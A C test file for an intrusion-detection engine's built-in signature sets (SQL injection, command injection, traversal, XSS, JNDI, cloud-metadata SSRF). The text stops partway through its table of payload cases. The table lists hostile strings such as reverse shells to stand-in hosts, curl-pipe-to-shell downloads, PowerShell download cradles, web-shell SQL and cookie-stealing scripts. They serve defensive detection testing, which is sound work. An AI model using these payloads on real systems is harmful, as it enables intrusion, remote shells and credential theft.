/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * test_builtin_rules.c - bulkhead's built-in signature sets (dpi/rules/).
 *
 *   test_builtin_rules [RULES_DIR [BENIGN_TXT]]
 *
 * Loads the seven rule files of RULES_DIR (default: dpi/rules of the source
 * tree) through dpi_rules_load_files(), so sids are checked unique across
 * them, and compiles them with dpi_sig_compile(). Then:
 *   - conventions: every rule is an alert with gid 1, rev 1, a classtype, a
 *     msg "BULKHEAD <SET> ...", metadata "bulkhead_set <set>", and a sid in
 *     its set's range;
 *   - cases: realistic payloads, each as it appears in its buffer, and
 *     near misses. A case names one sid and whether it must fire, and lists
 *     every other sid the transaction fires: the set of alerts must be
 *     exactly that. Every sid in the files needs at least one positive and
 *     one negative case, or the test fails;
 *   - false positives: every line of BENIGN_TXT (default:
 *     tests/data/sqli/benign.txt) as an http.param value, as a request body
 *     and as the query of http.uri and http.uri.raw (fully percent-encoded,
 *     and encoded only as far as a browser does), and a list of realistic
 *     benign requests (probes, REST and JSON calls, browsers, form posts,
 *     webhooks) must give no alert at all. The counts are printed.
 * Every value the engine reads ends at a guard page (dpi_hs.c works around
 * libhs 5.4.0's own over-read, see test_hs.c).
 */
#include <ctype.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "bh_test.h"
#include "dpi_sig.h"

/* The sets: file stem, msg tag, sid range. */
static const struct set_def {
	const char *name, *tag;
	uint32_t lo, hi;
} sets[] = {
	{"sqli", "SQLI", 8801100, 8801999},
	{"cmdi", "CMDI", 8802001, 8802999},
	{"traversal", "TRAVERSAL", 8803001, 8803999},
	{"xss", "XSS", 8804001, 8804999},
	{"jndi", "JNDI", 8805001, 8805099},
	{"ssrf-metadata", "SSRF-METADATA", 8806001, 8806999},
	{"scanner", "SCANNER", 8807001, 8807999},
};
#define N_SETS (sizeof(sets) / sizeof(sets[0]))

static char rules_dir[1024];
static char benign_path[1100];

struct fx {
	struct dpi_rule_set *set;
	struct dpi_sig_db *db;
	struct dpi_sig_scratch *s;
};

static struct fx fx;

static void print_err(void *ctx, const struct dpi_rule_error *e)
{
	(void)ctx;
	fprintf(stderr, "rule error: %s\n", e->text);
}

/* ------------------------------------------------------- guard-page copies */

static const uint8_t *gdup(const void *src, size_t len)
{
	return guard_dup(src, len);
}

static void gfree(const uint8_t *p, size_t len)
{
	guard_free((uint8_t *)p, len);
}

/* ------------------------------------------------------------ transactions */

#define MAX_VALS 24

/* A transaction whose values are guard-page copies. */
struct txb {
	struct dpi_sig_tx tx;
	struct dpi_slice v[DPI_RB__COUNT][MAX_VALS];
};

static void txb_init(struct txb *t, enum dpi_rule_app app)
{
	memset(t, 0, sizeof(*t));
	t->tx.app = app;
	t->tx.dir = DPI_TO_SERVER;
}

static void txb_addn(struct txb *t, enum dpi_rule_buffer b, const void *s, size_t len)
{
	uint32_t k = t->tx.nvals[b];

	if (k >= MAX_VALS) {
		CHECK(k < MAX_VALS);
		return;
	}
	t->v[b][k].p = gdup(s, len);
	t->v[b][k].len = (uint32_t)len;
	t->tx.nvals[b] = k + 1;
	t->tx.vals[b] = t->v[b];
}

static void txb_add(struct txb *t, enum dpi_rule_buffer b, const char *s)
{
	txb_addn(t, b, s, strlen(s));
}

static void txb_free(struct txb *t)
{
	for (size_t b = 0; b < DPI_RB__COUNT; b++)
		for (uint32_t k = 0; k < t->tx.nvals[b]; k++)
			gfree(t->v[b][k].p, t->v[b][k].len);
}

#define MAX_ALERTS 64

struct got {
	int n;
	uint32_t sid[MAX_ALERTS];
	enum dpi_rule_buffer buf[MAX_ALERTS];
};

static void on_alert(void *ctx, const struct dpi_sig_alert *a)
{
	struct got *g = ctx;

	if (g->n < MAX_ALERTS) {
		g->sid[g->n] = a->rule->sid;
		g->buf[g->n] = a->buffer;
	}
	g->n++;
}

/* Inspects and frees @t. */
static struct got run_tx(struct txb *t)
{
	struct got g = {0};
	int r = dpi_sig_inspect(fx.db, fx.s, &t->tx, on_alert, &g);

	CHECK_EQ(r, g.n);
	txb_free(t);
	return g;
}

static bool got_has(const struct got *g, uint32_t sid)
{
	for (int i = 0; i < g->n && i < MAX_ALERTS; i++)
		if (g->sid[i] == sid)
			return true;
	return false;
}

/* ------------------------------------------------------------------ loading */

static int load_all(void)
{
	char paths[N_SETS][1200];
	const char *pp[N_SETS];
	char err[512];
	int r;

	for (size_t i = 0; i < N_SETS; i++) {
		snprintf(paths[i], sizeof(paths[i]), "%s/%s.rules", rules_dir, sets[i].name);
		pp[i] = paths[i];
	}
	r = dpi_rules_load_files(pp, N_SETS, NULL, &fx.set, print_err, NULL);
	if (r < 0)
		return r;
	r = dpi_sig_compile(fx.set, &fx.db, err, sizeof(err));
	if (r < 0) {
		fprintf(stderr, "compile: %s\n", err);
		return r;
	}
	return dpi_sig_scratch_new(fx.db, &fx.s);
}

static const struct set_def *set_of(const struct dpi_rule *r)
{
	const char *base = r->file ? strrchr(r->file, '/') : NULL;

	base = base ? base + 1 : r->file;
	for (size_t i = 0; base && i < N_SETS; i++) {
		size_t n = strlen(sets[i].name);

		if (strncmp(base, sets[i].name, n) == 0 && strcmp(base + n, ".rules") == 0)
			return &sets[i];
	}
	return NULL;
}

static void test_conventions(void)
{
	size_t per_set[N_SETS] = {0};

	CHECK(fx.set && fx.set->n_rules > 0);
	for (size_t i = 0; fx.set && i < fx.set->n_rules; i++) {
		const struct dpi_rule *r = &fx.set->rules[i];
		const struct set_def *sd = set_of(r);
		char want[128];
		bool ok;

		CHECK(sd != NULL);
		if (!sd)
			continue;
		per_set[sd - sets]++;
		snprintf(want, sizeof(want), "BULKHEAD %s ", sd->tag);
		ok = r->action == DPI_RULE_ALERT && r->gid == 1 && r->rev == 1 && r->classtype &&
		     strncmp(r->msg, want, strlen(want)) == 0 &&
		     strlen(r->msg) > strlen(want) && r->sid >= sd->lo && r->sid <= sd->hi;
		snprintf(want, sizeof(want), "bulkhead_set %s", sd->name);
		ok = ok && r->metadata && strcmp(r->metadata, want) == 0;
		/* DNS rules aside, every rule is a to-server HTTP rule. */
		ok = ok && (r->app == DPI_RULE_APP_DNS ||
			    (r->app == DPI_RULE_APP_HTTP && r->flow_dir == DPI_FLOW_TO_SERVER));
		CHECK(ok);
		if (!ok)
			fprintf(stderr, "  %s:%u: sid %u breaks the set's conventions\n", r->file,
				r->line, r->sid);
	}
	for (size_t i = 0; i < N_SETS; i++) {
		CHECK(per_set[i] > 0);
		printf("# %-14s %2zu rules\n", sets[i].name, per_set[i]);
	}
}

/* -------------------------------------------------------------------- cases */

struct in {
	enum dpi_rule_buffer b;
	const char *v;
};

struct tcase {
	int line;
	uint32_t sid;     /* the rule the case is about */
	bool pos;         /* it must fire (else: must not) */
	const char *also; /* every other sid the transaction fires, space-separated */
	struct in in[4];  /* ended by v == NULL */
};

#define POS(sid, also, ...) {__LINE__, sid, true, also, {__VA_ARGS__}}
#define NEG(sid, also, ...) {__LINE__, sid, false, also, {__VA_ARGS__}}
#define PARAM(s) {DPI_RB_HTTP_PARAM, s}
#define BODY(s) {DPI_RB_HTTP_REQUEST_BODY, s}
#define RAW(s) {DPI_RB_HTTP_URI_RAW, s}
#define HDR(s) {DPI_RB_HTTP_HEADER, s}
#define UA(s) {DPI_RB_HTTP_USER_AGENT, s}
#define COOKIE(s) {DPI_RB_HTTP_COOKIE, s}
#define HOST(s) {DPI_RB_HTTP_HOST, s}
#define DNSQ(s) {DPI_RB_DNS_QUERY, s}

static const struct tcase cases[] = {
	/* ---- sqli ---- */
	POS(8801100, "", PARAM("-1 UNION ALL SELECT NULL,CONCAT(0x716a767a71,0x4e6b6a4a,0x7178627171)-- -")),
	POS(8801100, "", PARAM("1 AND 4321=(SELECT UPPER(CHR(113)||CHR(122)||CHR(106)||CHR(107)||CHR(113)||"
			       "(SELECT (CASE WHEN (4321=4321) THEN 1 ELSE 0 END))::text||(CHR(113)||"
			       "CHR(120)||CHR(118)||CHR(122)||CHR(113))))")),
	POS(8801100, "", PARAM("1 AND 7452=CONVERT(INT,(SELECT CHAR(113)+CHAR(106)+CHAR(122)+CHAR(118)+"
			       "CHAR(113)+(SELECT (CASE WHEN (7452=7452) THEN CHAR(49) ELSE CHAR(48) END))"
			       "+CHAR(113)+CHAR(118)+CHAR(98)+CHAR(107)+CHAR(113)))")),
	NEG(8801100, "", PARAM("0x7161626371")),
	NEG(8801100, "", PARAM("CHR(113) is the letter q")),
	POS(8801101, "", PARAM("999999.9 union all select 0x31303235343830303536,0x31303235343830303536--")),
	NEG(8801101, "", PARAM("order 1025480056 shipped")),
	POS(8801102, "", PARAM("-3 UNION SELECT table_name,2 FROM information_schema.tables WHERE table_schema=database()-- -")),
	POS(8801102, "", PARAM("1' AND (SELECT COUNT(*) FROM INFORMATION_SCHEMA/**/.COLUMNS)>0-- -")),
	NEG(8801102, "", PARAM("information_schema tutorial for beginners")),
	POS(8801102, "", PARAM("1%20UNION%20SELECT%20table_name%20FROM%20information_schema%2Etables--")),
	POS(8801103, "", PARAM("1 UNION SELECT usename,passwd FROM pg_shadow--")),
	POS(8801103, "", PARAM("' UNION SELECT NULL,tablename FROM pg_catalog.pg_tables--")),
	NEG(8801103, "", PARAM("pg_catalog docs")),
	NEG(8801103, "", PARAM("my_pg_shadows")),
	POS(8801104, "", PARAM("1; EXEC master..xp_cmdshell 'whoami'--")),
	POS(8801104, "", PARAM("'; exec sp_configure 'xp_cmdshell', 1; reconfigure;--")),
	POS(8801104, "", PARAM("1;DECLARE @o INT;EXEC sp_OACreate 'WScript.Shell',@o OUT--")),
	NEG(8801104, "", PARAM("how to enable xp_cmdshell safely")),
	POS(8801105, "", PARAM("-1' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -")),
	POS(8801105, "", PARAM("1 union select load_file(0x2f6574632f706173737764)")),
	POS(8801105, "", PARAM("1;SELECT pg_read_file('/etc/passwd',0,200)--")),
	NEG(8801105, "", PARAM("def load_file(path): return open(path).read()")),
	POS(8801106, "", PARAM("1 UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'-- -")),
	POS(8801106, "", PARAM("1 INTO/**/DUMPFILE \"/tmp/x.so\"")),
	NEG(8801106, "", PARAM("save the result into outfile later")),
	POS(8801107, "", PARAM("1' AND 1=(SELECT 1 FROM pg_sleep(5))--")),
	POS(8801107, "", PARAM("';SELECT pg_sleep_for('5 seconds')--")),
	NEG(8801107, "", PARAM("pg_sleep(n) explained")),
	POS(8801108, "", PARAM("1'; WAITFOR DELAY '0:0:5'--")),
	POS(8801108, "", PARAM("1);waitfor time '23:59:59'--")),
	NEG(8801108, "", PARAM("waitfor delay tips")),
	POS(8801108, "", PARAM("1);%0cWAITFOR%0cTIME%0c'23:59:00'-- -")),
	POS(8801109, "", PARAM("1 AND BENCHMARK(5000000,MD5(0x41))")),
	NEG(8801109, "", PARAM("benchmark(2023)")),
	POS(8801109, "", PARAM("1%27/**/ANd/**/bENchmaRk%285000000%2CMD5%281%29%29")),
	NEG(8801109, "", PARAM("benchmark(s), results, md5(x)")),
	POS(8801120, "", COOKIE("tracking=1' UNION SELECT table_name FROM information_schema.tables-- -")),
	POS(8801120, "", COOKIE("uid=1' AND 1=(SELECT 1 FROM pg_sleep(5))--")),
	NEG(8801120, "", COOKIE("pref=information; schema=dark; sleep=8")),
	POS(8801121, "", RAW("/products/1%20UNION%20SELECT%20table_name%20FROM%20information_schema.tables--")),
	POS(8801121, "", RAW("/item.php?id=1%27%3BWAITFOR%20DELAY%20%270%3A0%3A5%27--")),
	POS(8801121, "", RAW("/item/1%20AND%20BENCHMARK(5000000%2CMD5(1))")),
	NEG(8801121, "", RAW("/docs/information-schema/tables.html")),
	POS(8801122, "", BODY("{\"id\":\"1; EXEC master..xp_cmdshell 'ping 10.0.0.1'--\"}")),
	POS(8801122, "", BODY("<order><id>1' AND 1=(SELECT 1 FROM PG_SLEEP(5))--</id></order>")),
	NEG(8801122, "", BODY("{\"query\":\"SELECT table_name FROM information_schema.tables\"}")),

	/* ---- cmdi ---- */
	POS(8802001, "", PARAM("127.0.0.1;id")),
	POS(8802001, "", PARAM("example.com && uname -a")),
	POS(8802001, "", PARAM("x|whoami")),
	POS(8802001, "", PARAM("1\nls -la /")),
	NEG(8802001, "", PARAM("id")),
	NEG(8802001, "", PARAM("name; id est")),
	NEG(8802001, "", PARAM("fields=name;id;email")),
	NEG(8802001, "", PARAM("rm [-rf] <file|dir>...")),
	NEG(8802001, "", PARAM("get|has|id|keys")),
	POS(8802002, "", PARAM("$(whoami)")),
	POS(8802002, "8802007", PARAM("a$(curl http://198.51.100.7/x.sh|sh)")),
	NEG(8802002, "", PARAM("$(document).ready(function(){})")),
	NEG(8802002, "", PARAM("$(shell uname -s)")),
	NEG(8802002, "", PARAM("GID=$(id -g)")),
	POS(8802003, "", PARAM("`id`")),
	POS(8802003, "", PARAM("127.0.0.1`sleep 5`")),
	NEG(8802003, "", PARAM("Use `ls` to list files")),
	NEG(8802003, "", PARAM("XDG_RUNTIME_DIR=/run/user/`id -u`")),
	POS(8802004, "", PARAM("cat${IFS}/etc/passwd")),
	POS(8802004, "8802005", PARAM(";cat$IFS$9/etc/passwd")),
	NEG(8802004, "", PARAM("IFS=, read -r a b")),
	NEG(8802004, "", PARAM("saveifs=\"$IFS\"; IFS=\"${IFS}:\"")),
	POS(8802005, "", PARAM("127.0.0.1|cat /etc/passwd")),
	POS(8802005, "", PARAM("x;tail -n 20 /var/log/auth.log")),
	POS(8802005, "8803013", PARAM("& type c:\\windows\\win.ini")),
	NEG(8802005, "", PARAM("dogs | cat lovers")),
	POS(8802006, "", PARAM("1.1.1.1 && wget http://198.51.100.7/bot -O /tmp/bot")),
	POS(8802006, "", PARAM("; curl 203.0.113.9:8000/a")),
	NEG(8802006, "", PARAM("&& wget the docs")),
	NEG(8802006, "", PARAM("a; curl up with a book")),
	POS(8802007, "8802006", PARAM("x; curl -fsSL http://198.51.100.7/i.sh | sh")),
	POS(8802007, "", PARAM("echo Y3VybCBodHRwOi8vZXZpbA== | base64 -d | bash")),
	NEG(8802007, "", PARAM("curl https://example.com/install.sh -o install.sh")),
	POS(8802008, "", PARAM("; nc -e /bin/sh 198.51.100.7 4444")),
	POS(8802008, "8802005 8802009",
	    PARAM("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f")),
	POS(8802008, "", PARAM("ncat --exec cmd.exe 10.0.0.5 443")),
	NEG(8802008, "", PARAM("nc -zv db.internal 5432")),
	POS(8802009, "", PARAM("a; bash -c 'echo pwned'")),
	POS(8802009, "", PARAM("/bin/sh -c whoami")),
	NEG(8802009, "", PARAM("see /bin/sh for details")),
	POS(8802010, "", PARAM("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")),
	NEG(8802010, "", PARAM("/dev/tcp is a bash feature")),
	POS(8802011, "", PARAM("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA")),
	POS(8802011, "", PARAM("pwsh -EncodedCommand dwBoAG8AYQBtAGkA")),
	NEG(8802011, "", PARAM("powershell -ExecutionPolicy Bypass -File deploy.ps1")),
	POS(8802012, "", PARAM("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')")),
	POS(8802012, "", PARAM("iex (iwr http://10.0.0.5/p.ps1 -UseBasicParsing)")),
	NEG(8802012, "", PARAM("New-Object System.Net.WebClient")),
	POS(8802012, "", PARAM("iwr http://198.51.100.7/a.ps1 -UseBasicParsing | iex")),
	NEG(8802012, "", PARAM("aliases: iex ihy ii ipal irm iwr")),
	POS(8802013, "", PARAM("& cmd.exe /c whoami")),
	POS(8802013, "", PARAM("x\" & cmd /k ver")),
	NEG(8802013, "", PARAM("cmd /? shows help")),
	POS(8802014, "", PARAM("; sleep 10;")),
	POS(8802014, "", PARAM("| ping -n 10 127.0.0.1 |")),
	POS(8802014, "", PARAM("&nslookup host.example.net&")),
	NEG(8802014, "", PARAM("breakfast; sleep 8 hours")),
	POS(8802020, "", HDR("Host: app\r\nUser-Agent: () { :; }; /bin/bash -c 'cat /etc/passwd'\r\n")),
	POS(8802020, "", HDR("Referer: () { _; OpenVAS-VT; } >_[$($())] { echo; id; }\r\n")),
	NEG(8802020, "", HDR("Accept: text/html\r\nX-Debug: (){}\r\n")),
	NEG(8802020, "", HDR("X-Snippet: function init() { return 1; }\r\n")),
	POS(8802021, "", HDR("User-Agent: $(curl http://198.51.100.7/x|sh)\r\n")),
	POS(8802021, "", HDR("X-Forwarded-For: `id`\r\n")),
	POS(8802021, "", HDR("X-Client: 1.2.3.4; bash -i >& /dev/tcp/198.51.100.7/443 0>&1\r\n")),
	NEG(8802021, "", HDR("X-Template: $(document).ready\r\n")),
	POS(8802030, "", BODY("{\"host\":\"8.8.8.8; bash -i >& /dev/tcp/198.51.100.7/9001 0>&1\"}")),
	POS(8802030, "", BODY("{\"ip\":\"127.0.0.1;id\"}")),
	POS(8802030, "", BODY("<ping><target>10.0.0.1|cat /etc/passwd</target></ping>")),
	NEG(8802030, "", BODY("{\"script\":\"apt-get update && curl -fsSL https://deb.nodesource.com/setup_20.x | bash -\"}")),
	NEG(8802030, "", BODY("{\"run\":\"docker run --user $(id -u):$(id -g) -v $(pwd):/src builder:1.4\"}")),
	NEG(8802030, "", BODY("<!ATTLIST x type (CDATA|IDREFS|IDREF|ID|NMTOKENS) #IMPLIED>")),
	NEG(8802030, "", BODY("IFS=\"${IFS}:\"; for d in $PATH; do :; done")),
	POS(8802031, "", RAW("/api/ping/127.0.0.1%3Bid")),
	POS(8802031, "", RAW("/cgi-bin/status?ip=1.1.1.1%7Ccat%20%2Fetc%2Fpasswd")),
	POS(8802031, "", RAW("/run?x=%24%28whoami%29")),
	POS(8802031, "", RAW("/diag?host=x%26%26wget%20http%3A%2F%2F198.51.100.7%2Fb")),
	NEG(8802031, "", RAW("/api/users;jsessionid=ABC123?id=5")),
	NEG(8802031, "", RAW("/search?q=the%20specified%20%60id%60%20field")),
	NEG(8802031, "", RAW("/catalog?fmt=root%3Btype%3Bid%3Bcatalog")),
	POS(8802031, "", RAW("/api/exec?ip=127.0.0.1%3Bid%3B%20")),

	/* ---- traversal ---- */
	POS(8803001, "", RAW("/static/../../../../etc/passwd")),
	POS(8803001, "", RAW("/download?file=../../../etc/passwd")),
	POS(8803001, "", RAW("/assets/../admin/")),
	NEG(8803001, "", RAW("/search?q=../img/logo.png")),
	POS(8803002, "", RAW("/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd")),
	POS(8803002, "", RAW("/files/..%2f..%2f..%2fetc%2fpasswd")),
	POS(8803002, "", RAW("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh")),
	NEG(8803002, "", RAW("/search?q=..%2Fimg%2Flogo.png")),
	POS(8803003, "", RAW("/%252e%252e/%252e%252e/etc/passwd")),
	POS(8803003, "", RAW("/files/..%252f..%252fetc%252fpasswd")),
	NEG(8803003, "", RAW("/search?q=100%25%20cotton")),
	POS(8803004, "", RAW("/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd")),
	POS(8803004, "", RAW("/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir")),
	POS(8803004, "", RAW("/%u002e%u002e/%u002e%u002e/windows/win.ini")),
	NEG(8803004, "", RAW("/caf%C3%A9/menu")),
	POS(8803004, "", RAW("/static/..%c0%af..%c0%afetc/passwd")),
	NEG(8803004, "", RAW("/blob?d=%02%82%C0%AE%F4%1E%7FRs")),
	POS(8803005, "", RAW("/..\\..\\..\\windows\\win.ini")),
	POS(8803005, "", RAW("/download?f=..\\..\\boot.ini")),
	NEG(8803005, "", RAW("/search?q=..\\docs\\readme.txt")),
	POS(8803006, "", RAW("/app/..;/manager/html")),
	NEG(8803006, "", RAW("/files/a..;b")),
	POS(8803010, "8803011", PARAM("../../../../etc/passwd")),
	POS(8803010, "", PARAM("....//....//....//etc/hosts")),
	POS(8803010, "8803013", PARAM("..\\windows\\win.ini")),
	POS(8803010, "", PARAM("../.git/config")),
	NEG(8803010, "", PARAM("../img/logo.png")),
	POS(8803011, "", PARAM("/etc/passwd")),
	POS(8803011, "", PARAM("/etc/shadow")),
	NEG(8803011, "", PARAM("how to edit /etc/passwd safely")),
	POS(8803012, "", PARAM("/proc/self/environ")),
	POS(8803012, "", PARAM("/proc/1/cmdline")),
	NEG(8803012, "", PARAM("/proc/cpuinfo")),
	POS(8803013, "", PARAM("c:\\windows\\win.ini")),
	POS(8803013, "", PARAM("C:/Windows/System32/drivers/etc/hosts")),
	NEG(8803013, "", PARAM("C:\\Windows\\System32\\notepad.exe")),
	POS(8803014, "", PARAM("/WEB-INF/web.xml")),
	POS(8803014, "8803010", PARAM("../../WEB-INF/web.xml")),
	NEG(8803014, "", PARAM("web-inf folder layout")),
	POS(8803015, "", PARAM("/var/run/secrets/kubernetes.io/serviceaccount/token")),
	POS(8803015, "", PARAM("/root/.ssh/id_rsa")),
	POS(8803015, "", PARAM("/home/app/.aws/credentials")),
	NEG(8803015, "", PARAM("/home/app/.ssh/known_hosts")),
	POS(8803020, "", PARAM("php://filter/convert.base64-encode/resource=index.php")),
	POS(8803020, "", PARAM("PHP://input")),
	NEG(8803020, "", PARAM("php://output")),
	POS(8803021, "8803011", PARAM("file:///etc/passwd")),
	POS(8803021, "8803013", PARAM("file://localhost/c:/windows/win.ini")),
	POS(8803021, "8803015", PARAM("file:///var/run/secrets/kubernetes.io/serviceaccount/token")),
	NEG(8803021, "", PARAM("file:///tmp/report.pdf")),
	POS(8803022, "", PARAM("expect://id")),
	POS(8803022, "", PARAM("phar://uploads/avatar.jpg/shell.php")),
	NEG(8803022, "", PARAM("zip archive of photos")),
	POS(8803030, "", BODY("{\"path\":\"../../../../etc/passwd\"}")),
	POS(8803030, "", BODY("--b\r\nContent-Disposition: form-data; name=\"file\"; "
			      "filename=\"../../../var/www/html/shell.php\"\r\n"
			      "Content-Type: application/octet-stream\r\n\r\n<?php ?>\r\n--b--\r\n")),
	POS(8803030, "", BODY("{\"template\":\"..\\\\..\\\\..\\\\windows\\\\win.ini\"}")),
	NEG(8803030, "", BODY("{\"message\":\"Fix ../ handling in path join\"}")),

	/* ---- xss ---- */
	POS(8804001, "", PARAM("<script>alert(1)</script>")),
	POS(8804001, "", PARAM("\"><ScRiPt src=//198.51.100.7/x.js></sCrIpT>")),
	NEG(8804001, "", PARAM("I love scripts")),
	NEG(8804001, "", PARAM("<scripts>")),
	POS(8804002, "", PARAM("javascript:alert(1)")),
	POS(8804002, "", PARAM("java\tscript:alert(1)")),
	POS(8804002, "", PARAM("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")),
	POS(8804002, "", PARAM("\" href=\"JaVaScRiPt: confirm(1)")),
	NEG(8804002, "", PARAM("Learn JavaScript: the good parts")),
	POS(8804003, "", PARAM("<svg/onload=alert(1)>")),
	POS(8804003, "", PARAM("<img src=x onerror=alert(1)>")),
	POS(8804003, "", PARAM("\"><body onload=prompt(1)>")),
	NEG(8804003, "", PARAM("<b>online=true</b>")),
	NEG(8804003, "", PARAM("<a href=\"/docs\" title=\"on-call\">docs</a>")),
	POS(8804004, "", PARAM("<iframe src=https://198.51.100.7/phish>")),
	POS(8804004, "", PARAM("<object data=x.swf>")),
	NEG(8804004, "", PARAM("<iframes are deprecated>")),
	NEG(8804004, "", PARAM("Object File: <object filename>")),
	POS(8804005, "", PARAM("new Image().src='https://198.51.100.7/c?'+document.cookie")),
	POS(8804005, "", PARAM("x=document['cookie']")),
	NEG(8804005, "", PARAM("Document cookie policy")),
	POS(8804006, "", PARAM("';alert(1)//")),
	POS(8804006, "", PARAM("\"-prompt(1)-\"")),
	POS(8804006, "", PARAM("'+confirm`1`+'")),
	NEG(8804006, "", PARAM("'moo' or 'curlew'")),
	NEG(8804006, "", PARAM("Set alert('x') in config")),
	POS(8804010, "", RAW("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E")),
	POS(8804010, "", RAW("/p?x=%3Csvg%2Fonload%3Dalert(1)%3E")),
	POS(8804010, "", RAW("/p?r=javascript%3Aalert(1)")),
	POS(8804010, "", RAW("/p?x=%253Cscript%253E")),
	NEG(8804010, "", RAW("/search?q=3%20%3C%205")),
	NEG(8804010, "", RAW("/p?lang=javascript%3A%20the%20good%20parts")),
	POS(8804011, "", BODY("{\"comment\":\"<img src=x onerror=alert(1)>\"}"),
	    HDR("Host: api\r\nContent-Type: application/json\r\n")),
	POS(8804011, "", BODY("{\"bio\":\"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\"}"),
	    HDR("Content-Type: application/json; charset=utf-8\r\n")),
	POS(8804011, "", BODY("{\"link\":\"javascript:alert(1)\"}"),
	    HDR("content-type: application/vnd.api+json\r\n")),
	NEG(8804011, "", BODY("<html><body onload=\"init()\"><script src=\"/app.js\"></script></body></html>"),
	    HDR("Content-Type: text/html\r\n")),
	NEG(8804011, "", BODY("{\"html\":\"<p>Hello <b>world</b></p>\"}"),
	    HDR("Content-Type: application/json\r\n")),
	POS(8804012, "", HDR("Referer: https://shop.example.com/?q=<script>alert(1)</script>\r\n")),
	POS(8804012, "", HDR("User-Agent: Mozilla/5.0 <img src=x onerror=alert(1)>\r\n")),
	POS(8804012, "", HDR("Referer: https://a.example/?q=%3Cscript%3Ealert(1)%3C/script%3E\r\n")),
	NEG(8804012, "", HDR("Link: <https://cdn.example.com/app.js>; rel=preload; as=script\r\n")),

	/* ---- jndi ---- */
	POS(8805001, "", RAW("/?x=${jndi:ldap://198.51.100.7:1389/a}")),
	NEG(8805001, "", RAW("/?tpl=${user.name}&jndi=off")),
	POS(8805002, "", RAW("/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D")),
	POS(8805002, "", RAW("/?x=$%7Bjndi:rmi://a/b}")),
	POS(8805002, "", RAW("/?x=%2524%257Bjndi%253Aldap")),
	POS(8805002, "", RAW("/?x=%24%7B%6A%6E%64%69%3Aldap")),
	NEG(8805002, "8805001", RAW("/?x=${jndi:ldap://a/b}")),
	POS(8805003, "", HDR("X-Api-Version: ${jndi:ldap://198.51.100.7/a}\r\n")),
	NEG(8805003, "", HDR("X-Api-Version: ${env:VERSION}\r\n")),
	POS(8805004, "", PARAM("${JNDI:dns://x.example.net/a}")),
	NEG(8805004, "", PARAM("jndi lookup explained")),
	POS(8805005, "", BODY("{\"username\":\"${jndi:ldap://198.51.100.7:1389/Exploit}\"}")),
	NEG(8805005, "", BODY("{\"note\":\"${username}\"}")),
	POS(8805006, "8805003", UA("${jndi:ldap://198.51.100.7/ua}"),
	    HDR("User-Agent: ${jndi:ldap://198.51.100.7/ua}\r\n")),
	NEG(8805006, "", UA("Mozilla/5.0 (jndi-client)")),
	POS(8805007, "", COOKIE("session=${jndi:ldap://198.51.100.7/c}")),
	NEG(8805007, "", COOKIE("session=${sid}")),

	/* ---- ssrf-metadata ---- */
	POS(8806001, "8806006", PARAM("http://169.254.169.254/latest/meta-data/iam/security-credentials/")),
	POS(8806001, "", PARAM("169.254.169.254")),
	POS(8806001, "", PARAM("http://169.254.169.254.nip.io/")),
	NEG(8806001, "", PARAM("169.254.169.2540")),
	NEG(8806001, "", PARAM("169.254.169.25")),
	POS(8806002, "8806006", PARAM("http://2852039166/latest/meta-data/")),
	POS(8806002, "", PARAM("http://0xa9fea9fe/")),
	POS(8806002, "", PARAM("http://0251.0376.0251.0376/")),
	POS(8806002, "8806006", PARAM("http://[::ffff:a9fe:a9fe]/latest/api/token")),
	POS(8806002, "8806006", PARAM("http://[fd00:ec2::254]/latest/meta-data/")),
	NEG(8806002, "", PARAM("2852039166")),
	POS(8806003, "8806006", PARAM("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token")),
	POS(8806003, "", PARAM("https://metadata.azure.com/")),
	NEG(8806003, "", PARAM("google internal metadata")),
	POS(8806004, "8806006", PARAM("http://100.100.100.200/latest/meta-data/")),
	NEG(8806004, "", PARAM("100.100.100.2000")),
	POS(8806005, "", PARAM("http://169.254.170.2/v2/credentials/3f2c1a")),
	NEG(8806005, "", PARAM("169.254.170.22")),
	POS(8806006, "", PARAM("/latest/meta-data/iam/security-credentials/")),
	POS(8806006, "", PARAM("/computeMetadata/v1/project/project-id")),
	POS(8806006, "", PARAM("http://localhost:8080/metadata/identity/oauth2/token?resource=x")),
	NEG(8806006, "", PARAM("/latest/news")),
	POS(8806010, "", BODY("{\"url\":\"http://169.254.169.254/latest/meta-data/\"}")),
	POS(8806010, "", BODY("{\"webhook\":\"http://metadata.google.internal/computeMetadata/v1/\"}")),
	POS(8806010, "", BODY("<import><src>http://[fd00:ec2::254]/x</src></import>")),
	NEG(8806010, "", BODY("{\"ip\":\"169.254.1.1\"}")),
	POS(8806011, "8806012", RAW("http://169.254.169.254/latest/meta-data/")),
	POS(8806011, "", RAW("/fetch/169.254.169.254/latest/user-data")),
	POS(8806011, "", RAW("/proxy/metadata.google.internal/x")),
	NEG(8806011, "", RAW("/search?q=169.254.169.254")),
	POS(8806012, "", RAW("/latest/meta-data/iam/security-credentials/")),
	POS(8806012, "", RAW("/computeMetadata/v1/instance/service-accounts/default/token")),
	POS(8806012, "", RAW("/metadata/instance?api-version=2021-02-01")),
	NEG(8806012, "", RAW("/api/latest/meta-data-sync")),
	NEG(8806012, "", RAW("/metadata/instance")),
	POS(8806020, "", HOST("169.254.169.254")),
	POS(8806020, "", HOST("metadata.google.internal")),
	POS(8806020, "", HOST("169.254.170.2")),
